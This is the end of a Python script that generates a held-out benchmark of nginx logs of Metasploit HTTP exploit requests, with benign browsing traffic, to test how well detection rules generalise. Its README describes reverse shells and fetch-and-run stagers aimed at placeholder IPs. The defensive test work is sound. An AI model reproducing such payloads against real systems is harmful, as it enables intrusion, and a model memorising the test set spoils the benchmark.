                asset = any(target.split('?')[0].endswith(x) for x in ('.css', '.js', '.svg', '.ico', '.png'))
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 90))
                if asset and st == 200 and r.random() < 0.2:
                    st = 304
                blines.append((tt, line(ip, tt, '%s %s HTTP/1.1' % (method, target), st, size(r, st, target), ref, ua)))
            blabels.append((ip, '%s\tbenign\t%s' % (ip, kind)))
    blines.sort(key=lambda x: x[0])
    key = lambda x: tuple(int(p) for p in x[0].split('.'))
    def write(name, text):
        with open(os.path.join(OUT, name), 'w', encoding='utf-8', newline='\n') as f:
            f.write(text)
    write('attacks.log', ''.join(l + '\n' for _, l in lines))
    write('attacks.labels', ''.join(l + '\n' for _, l in sorted(labels, key=key)))
    write('requests.tsv', 'ADDRESS\tCATEGORY\tMODULE_PATH\tCVE\tMETHOD\tREQUEST_LINE\tPUBLIC_SOURCE\tPAYLOAD_WHERE\tPRODUCT\n'
          + ''.join(l + '\n' for _, l in sorted(reqrows, key=key)))
    write('benign.log', ''.join(l + '\n' for _, l in blines))
    write('benign.labels', ''.join(l + '\n' for _, l in sorted(blabels, key=key)))
    write('README.md', readme(reqrows, lines, blines))
    if '--check' in sys.argv[1:]:
        cves = [e['cve'] for e in TABLE if e['cve'] != '-']
        sys.exit(0 if check_disjoint(sorted(used | bused), cves) else 1)

# ----------------------------------------------------------------- README.md
SKIP_TEXT = {
    'login': 'needs a prior login, session, API key or secret before the vulnerable request',
    'not-exploit': 'sends no exploit: a fingerprint, a credential-guessing loop or a third-party search API',
    'not-http': 'the payload travels over something else (TFTP, WebSocket, Thrift, Erlang distribution, e-mail, a crafted archive file, a database port, FortiClient EMS\'s own TCP protocol)',
    'oversize': 'a request line of 16 KB or more (30 KB for Ericom AccessNow); nginx would answer 414 and what it logs is unclear',
    'product-cap': 'a third module for one product (Jenkins)',
    'cve-used': 'its CVE (CVE-2018-13379) is in an earlier set, although the module lists none',
}

def table(rows, head):
    out = ['| ' + ' | '.join(head) + ' |', '|' + '---|' * len(head)]
    out += ['| ' + ' | '.join(str(x) for x in row) + ' |' for row in rows]
    return '\n'.join(out)

def readme(reqrows, lines, blines):
    rows = [r[1].split('\t') for r in reqrows]
    cat = collections.Counter(x[1] for x in rows)
    where = collections.Counter(x[7] for x in rows)
    meth = collections.Counter(x[4] for x in rows)
    folder = collections.Counter('/'.join(x[2].split('/')[1:3]) for x in rows)
    status = collections.Counter(l.split('"')[2].split()[0] for _, l in lines)
    years = collections.Counter(META[x[2]][1] for x in rows)
    def bucket(y):
        if y == '-':
            return 'no date (auxiliary)'
        y = int(y)
        return '1993-2009' if y < 2010 else '2010-2014' if y < 2015 else '2015-2019' if y < 2020 else '2020-2024' if y < 2025 else '2025-2026'
    yb = collections.Counter()
    for y, n in years.items():
        yb[bucket(y)] += n
    ncve = len(set(x[3] for x in rows if x[3] != '-'))
    skip = collections.Counter(r for _, r in SKIPPED)
    n, nb = len(rows), len(blines)
    bsrc = len(set(l.split(' ', 1)[0] for _, l in blines))
    ex = collections.defaultdict(list)
    for x in rows:
        if len(ex[x[1]]) < 6:
            ex[x[1]].append(x[8])
    cat_rows = [(c, k, ', '.join(ex[c])) for c, k in sorted(cat.items(), key=lambda kv: (-kv[1], kv[0]))]
    where_text = {
        'query': 'the exploit is in the query string, as logged',
        'path': 'the exploit is in the path (traversal, raw bytes, an auth-bypass path)',
        'body-not-logged': 'POST/PUT body; the log shows only the request line',
        'header-not-logged': 'a header nginx does not log (Cookie, Authorization, X-Forwarded-For, a custom header)',
        'user-agent': 'the User-Agent field, as logged',
    }
    where_rows = [(w, k, where_text[w]) for w, k in sorted(where.items(), key=lambda kv: (-kv[1], kv[0]))]
    return '\n'.join([
        '# thirdparty15: held-out set of Metasploit Framework HTTP exploit requests',
        '',
        'This set has %d attacking sources, each sending one request, and %d benign' % (n, bsrc),
        'browser sources. All lines are nginx "combined" access-log lines for one',
        'day, 30 Nov 2026 (UTC), the day before the set was written. Each',
        'attacking request is the one a Metasploit',
        'module sends to deliver its exploit, with the module\'s default options.',
        'The modules come from rapid7/metasploit-framework (BSD licence). Only facts',
        'about each request are kept: method, path, query, and where the payload',
        'goes. No module text is copied.',
        '',
        'It measures how the shipped rules generalise to exploit traffic nobody',
        'tuned them on. Do not edit it to make a policy pass.',
        '',
        '    DATA=tests/bench/data/thirdparty15 bash tests/bench/recall.sh policies',
        '',
        table([
            ('`gen.py`', 'writes every other file; fixed seed, stdlib only, byte-identical output on every run. `python3 gen.py --check` also runs the address and CVE checks below'),
            ('`attacks.log`', '%d lines, sorted by time. One source per line, each a distinct address in %s' % (n, ATTACK_NET)),
            ('`attacks.labels`', '`ADDRESS<TAB>attack<TAB>CATEGORY<TAB>technique`. The technique is the module name, e.g. `exploit/linux/http/dlink_hnap_bof`'),
            ('`requests.tsv`', 'address, category, module path, CVE, method, request line (as logged), public source, payload location, product'),
            ('`benign.log` / `benign.labels`', '%d lines from %d browser sources in %s, 5 to 8 requests each, `ADDRESS<TAB>benign<TAB>KIND`' % (nb, bsrc, BENIGN_NET)),
            ('`README.md`', 'this file, also written by `gen.py`'),
        ], ['file', 'what']),
        '',
        '## How it was written',
        '',
        '- The author did not read `policies/`, `user/`, `include/`, `bpf/`,',
        '  `docs/`, the repository README or any test code. gatehawk was not run.',
        '  The author read `tests/bench/recall.sh` (for the format), the data',
        '  READMEs and `../thirdparty12/gen.py` (for conventions). The other sets\'',
        '  `requests.tsv` and `*.labels` were read only to collect the CVEs they',
        '  use. Their `*.log` files were read only for the address check.',
        '- The search tool\'s `find_files` lists at most 100 files of a folder,',
        '  and the stored copy that `read_file` serves is one version per file,',
        '  often years old (one was from 2013). The full upstream snapshot was over',
        '  the size limit. So the folder listings and the module text were read in',
        '  a git snapshot of the rapid7 history: a fork that tracks upstream, at',
        '  `%s` (the merge of pull request #21717, Aug 2026).' % SNAPSHOT,
        '  For each module, `requests.tsv` names the last commit that changed the',
        '  file in that history. Spot checks: `activecollab_chat.rb` as read_file',
        '  served it (4,594 characters) has the same length at the same commit in',
        '  the snapshot, and `hpe_oneview_rce.rb` at read_file\'s commit equals the',
        '  snapshot\'s file. Other stored versions were older than the snapshot.',
        '',
        '### Sampling',
        '',
        '- Folders: `modules/exploits/{multi,linux,windows}/http`,',
        '  `modules/exploits/unix/webapp`, `modules/auxiliary/scanner/http` and',
        '  `modules/auxiliary/gather`. That is 1,623 modules.',
        '- Dropped before sampling: 195 modules without an HTTP client; 298 whose',
        '  CVEs appear in an earlier set; 6 that `../thirdparty7` names; 105 generic',
        '  scanners (version, login, directory and crawler scanners); 265 with a',
        '  required USERNAME/PASSWORD option. 754 were left.',
        '- These were shuffled with a fixed seed (20260219). A module was taken only',
        '  while its product (guessed from the file name) had fewer than two and',
        '  its disclosure year fewer than 24 (45 for modules without a date). The',
        '  first 341 of that order were read, in order. The product names in',
        '  `requests.tsv` were then set by hand.',
        '- %d of those 341 were kept. %d were skipped on reading:' % (n, len(SKIPPED)),
    ] + ['  - %d: %s (%s);' % (k, SKIP_TEXT[r], ', '.join(sorted(p.split('/')[-1][:-3] for p, rr in SKIPPED if rr == r)))
         for r, k in sorted(skip.items(), key=lambda kv: (-kv[1], kv[0]))] + [
        '- At most two modules name one product (`gen.py` asserts it). %d distinct' % ncve,
        '  CVEs are named; %d modules have no CVE. `--check` confirms that no CVE' % sum(1 for x in rows if x[3] == '-'),
        '  here is in another set\'s `requests.tsv` or labels.',
        '',
        table(sorted(folder.items()), ['folder', 'sources']),
        '',
        table(sorted(yb.items()), ['disclosure year', 'sources']),
        '',
        '### Which request',
        '',
        '- Each source sends the request in `exploit`/`run` that carries the',
        '  exploit: the payload upload, the command or code injection, the',
        '  traversal, the SQL injection or the auth bypass. It is never the',
        '  `check` method\'s version fetch.',
        '- Where a module sends several such requests, the one that puts the',
        '  exploit where the log can show it was preferred. Examples: the rename',
        '  with `../` in Xerte, the upload query with `../` in Navigate CMS, the',
        '  final command step of the Nagios XI chain.',
        '- Module defaults were evaluated as Rex does:',
        '  - `TARGETURI` default and `normalize_uri` (which joins with `/` and does',
        '    not resolve `..`);',
        '  - `vars_get` become the query string, encoded with Rex::Text.uri_encode',
        '    `hex-normal`: everything but `A-Za-z0-9/\\.-_~` becomes lowercase `%xx`,',
        '    so a space is `%20`. `encode_params => false` sends them raw;',
        '  - a module\'s own encodings are applied as written: `hex-all`,',
        '    `hex-noslashes`, `CGI.escape`, base64, `to_hex`, `chr()` lists;',
        '  - `send_request_raw` paths are sent as built, and a target without a',
        '    leading `/` stays so;',
        '  - `rand_text_alpha(n)` and friends become seeded random strings of',
        '    that length.',
        '- Where a module picks at random (HP NNM `ovutil` sends GET or POST), the',
        '  seeded draw decides.',
        '- Options with no default were given a value a user would type: the',
        '  example from the option text (Struts `/HelloWorldStruts2/hello...`), a',
        '  plausible file name, or `/` for a base path.',
        '- Payloads are realistic and seeded:',
        '  - Unix commands: `cmd/unix/reverse_bash`-like lines, a netcat FIFO',
        '    shell, or a `curl`/`wget` fetch-and-run stager to 203.0.113.7,',
        '    203.0.113.54, 198.51.100.23 or 192.0.2.77;',
        '  - command stagers: an `echo`/`printf` line that writes base64 of an',
        '    ELF or PE file;',
        '  - PHP: a short `fsockopen` reverse shell, or its `eval(base64_decode())`',
        '    form;',
        '  - machine code in buffer overflows: seeded random bytes that avoid the',
        '    module\'s bad characters, at the module\'s offsets;',
        '  - nginx writes bytes outside 0x20-0x7e, `"` and `\\` as `\\xXX`.',
        '- The log shows only the request line for a body. Such sources stay, and',
        '  `PAYLOAD_WHERE` says `body-not-logged`. A payload in a header nginx does',
        '  not log is marked `header-not-logged`.',
        '',
        table(where_rows, ['PAYLOAD_WHERE', 'sources', 'meaning']),
        '',
        '### User-Agents, Referers, status codes',
        '',
        '- **User-Agent**: a current browser string (Chrome and Edge 154/155,',
        '  Firefox 156/157, Safari 27.0/27.1, iOS, Android), as Metasploit sends a',
        '  browser-like one by default. Where a module sets its own, that is',
        '  logged: `Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)` (Spree,',
        '  TikiWiki), `Mozilla/5.0` (GoAutoDial), `AV Report Scheduler`',
        '  (AlienVault), the D-Link backdoor string, and a PHP tag (ZENworks',
        '  MDM). %d requests that a module sends without any User-Agent log `-`.' % sum(1 for e in TABLE if e['ua'] == '-'),
        '- **Referer**: `-`, except phpScheduleIt, which sets its own path.',
        '- **Status**: a seeded mix. nginx answers 400 to a target without a',
        '  leading `/`, to a `..` above the root and to a request without Host.',
        '  Totals: %s.' % ', '.join('%s x %s' % (k, s) for s, k in sorted(status.items(), key=lambda kv: (-kv[1], kv[0]))),
        '- **Methods**: %s.' % ', '.join('%d %s' % (k, m) for m, k in sorted(meth.items(), key=lambda kv: -kv[1])),
        '',
        '### Address ranges',
        '',
        '- Attacks: %s. Benign: %s. Both are inside 100.64.0.0/10.' % (ATTACK_NET, BENIGN_NET),
        '- Several READMEs declare wide ranges (benign-apps2 claims all of',
        '  100.64.0.0/10), so the two /20s were chosen where no other set\'s log',
        '  has an address, and outside every narrower range a README names.',
        '- `python3 gen.py --check` reads the first field of every line of every',
        '  `tests/bench/data/*/*.log` except this folder\'s. It reports any address',
        '  used here or inside either /20, and exits 1 if there is one.',
        '',
        '## Counts by category',
        '',
        table(cat_rows, ['category', 'sources', 'products (first few)']),
        '',
        '## Benign',
        '',
        'The %d benign sources are people using the kinds of products the' % bsrc,
        'modules target, legitimately. Each loads a page and its assets (the page',
        'as Referer, some revalidated as 304), logs in and works.',
        '',
        table([
            ('jenkins-user', 5, 'login, a job page, a console log and `logText/progressiveHtml?start=0`'),
            ('confluence-reader', 5, 'a space, a CQL search through `/wiki/rest/api/search?cql=...`, a page and its attachments'),
            ('wordpress-editor', 5, '`wp-login.php`, `post.php?action=edit`, REST autosave, `admin-ajax.php`, `async-upload.php`'),
            ('gitlab-user', 5, 'sign-in, a merge request and its diff JSON, the pipelines API, a raw job log'),
            ('router-admin', 4, 'OpenWrt LuCI login and pages under `/cgi-bin/luci/;stok=...`'),
            ('webmail-user', 4, 'Zimbra login, `SearchRequest`, attachment downloads `?auth=co&id=...&part=2`'),
            ('phpmyadmin-dba', 4, 'phpMyAdmin login, table browse, an import POST, table structure'),
            ('solr-admin', 4, 'the Solr admin UI, core status, `select?q=...` with field and range syntax'),
            ('nagios-viewer', 4, 'Nagios XI login, service status, `graphApi.php` for a host'),
        ], ['kind', 'sources', 'what they do']),
        '',
        '## Results',
        '',
        'The author did not measure the set, because the brief forbade running',
        'gatehawk while it was written.',
        '',
        'Do not edit the set to make a policy pass.',
        '',
    ])

if __name__ == '__main__':
    main()
